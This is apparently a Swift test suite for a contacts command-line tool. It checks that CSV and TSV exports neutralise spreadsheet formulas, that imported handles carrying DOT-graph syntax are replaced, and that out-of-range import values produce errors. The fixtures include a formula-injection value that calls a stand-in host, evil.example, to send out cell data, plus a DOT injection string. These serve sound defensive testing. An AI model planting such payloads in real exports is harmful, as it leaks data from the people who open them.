import Foundation
import Testing

/// Issue 16, item 8: exports cannot carry formulas or DOT syntax, and imported handles are
/// valid, so that what Tend writes can always be read back.
@Suite struct ExportHygieneCLITests {
    static func file(_ dir: URL, _ name: String) throws -> String {
        try String(contentsOf: dir.appendingPathComponent(name), encoding: .utf8)
    }

    @Test func csvCellsCannotBeFormulasAndImportUndoesTheGuard() throws {
        let a = CLI.tempDir()
        let setup = """
            add "Ann Formula" company: "=HYPERLINK(\\"http://evil.example/?\\"&A1)", title: "+cmd", city: "@home", notes: "-2+3", phone: "+1 415 555 0199", profession: "'=already quoted"
            """
        #expect(try CLI.run(["run", "-"], stdin: setup, in: a).status == 0)
        #expect(try CLI.run(["export", "csv", "out.csv"], in: a).status == 0)
        let csv = try ExportHygieneCLITests.file(a, "out.csv")
        for cell in ["\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", "'+cmd", "'@home", "'-2+3", "'+1 415 555 0199", "''=already quoted"] {
            #expect(csv.contains(cell), "\(cell) not in\n\(csv)")
        }
        // Query output in CSV and TSV is guarded the same way (numbers stay numbers).
        let q = try CLI.run(["--format", "csv", "-e", "contacts show name, title, -5 as n"], in: a)
        #expect(q.stdout == "name,title,n\nAnn Formula,'+cmd,-5\n", "\(q.stdout)")
        let t = try CLI.run(["--format", "tsv", "-e", "contacts show city"], in: a)
        #expect(t.stdout == "city\n'@home\n")
        // Read back, every value is what it was.
        let b = CLI.tempDir()
        #expect(try CLI.run(["import", "csv", a.appendingPathComponent("out.csv").path], in: b).status == 0)
        let query = "contacts show company, title, city, notes, phone, profession"
        let before = try CLI.run(["--format", "json", "-e", query], in: a)
        let after = try CLI.run(["--format", "json", "-e", query], in: b)
        #expect(!before.stdout.isEmpty && before.stdout == after.stdout, "\(before.stdout) \(after.stdout) \(after.stderr)")
    }

    /// A handle that is not a handle is made from the name, the report says so, and the
    /// database still dumps and restores (before, `add … handle: "x\" [label…"` in the dump
    /// did not run).
    @Test(arguments: ["csv", "vcard", "json"])
    func invalidImportedHandlesAreReplaced(_ format: String) throws {
        let bad = "x\" [label=\"INJECTED\"]"
        let files = [
            "csv": "name,handle\nEve Injector,\"x\"\" [label=\"\"INJECTED\"\"]\"\nBob Dash,-bob-\n",
            "vcard":
                "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Eve Injector\r\nX-TEND-HANDLE:\(bad)\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nFN:Bob Dash\r\nX-TEND-HANDLE:-bob-\r\nEND:VCARD\r\n",
            "json": "[{\"name\":\"Eve Injector\",\"handle\":\"x\\\" [label=\\\"INJECTED\\\"]\"},{\"name\":\"Bob Dash\",\"handle\":\"-bob-\"}]",
        ]
        let dir = CLI.tempDir()
        try files[format]!.write(to: dir.appendingPathComponent("in.\(format)"), atomically: true, encoding: .utf8)
        let r = try CLI.run(["import", format, "in.\(format)"], in: dir)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("is not a handle"), "\(r.stdout)")
        #expect(r.stdout.contains("imported as @eve-injector"), "\(r.stdout)")
        #expect(r.stdout.contains("imported as @bob-dash"), "\(r.stdout)")
        // The DOT export parses, with exactly these two nodes.
        #expect(try CLI.run(["export", "dot", "g.dot"], in: dir).status == 0)
        let dot = try ExportHygieneCLITests.file(dir, "g.dot")
        #expect(!dot.contains("INJECTED"))
        // The dump restores, and restores the same database.
        let dump = try CLI.run(["dump"], in: dir)
        let copy = CLI.tempDir()
        let restored = try CLI.run(["run", "-"], stdin: dump.stdout, in: copy)
        #expect(restored.status == 0, "\(restored.stderr)")
        #expect(try CLI.run(["dump"], in: copy).stdout == dump.stdout)
    }
}

/// Values from files are range-checked before they reach the database (the import side of
/// issue 16, item 5): a cadence of 9223372036854775807d or a date past 9999 is a worded error
/// naming the record and field, exit 3, nothing imported; never a trap.
@Suite struct ImportRangeTests {
    @Test(arguments: [
        ("csv", "name,cadence\nAna,9223372036854775807d\n", "record 1 (line 2), field cadence"),
        ("csv", "name,cadence\nAna,9223372036854775807w\n", "record 1 (line 2), field cadence"),
        ("csv", "name,next_due\nAna,10000-01-01\n", "record 1 (line 2), field next_due"),
        ("json", "[{\"name\":\"Ana\",\"own_cadence\":\"9223372036854775807d\"}]", "record 1, field own_cadence"),
        ("json", "[{\"name\":\"Ana\",\"met_on\":\"0000-12-31\"}]", "record 1, field met_on"),
        ("json", "[{\"name\":\"Ana\",\"expert\":\"yes please\"}]", "record 1, field expert"),
        ("vcard", "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana\r\nX-TEND-CADENCE:99999999999y\r\nEND:VCARD\r\n", "card 1 (line 1), field X-TEND-CADENCE"),
    ])
    func outOfRangeValuesAreWordedErrors(_ format: String, _ text: String, _ location: String) throws {
        let dir = CLI.tempDir()
        try text.write(to: dir.appendingPathComponent("in.\(format)"), atomically: true, encoding: .utf8)
        let r = try CLI.run(["import", format, "in.\(format)"], in: dir)
        #expect(r.status == 3, "\(r.stderr)")
        #expect(r.stderr.contains(location), "\(r.stderr)")
        // A failed first import leaves no database behind: as it was.
        #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent("tend.db").path))
    }
}
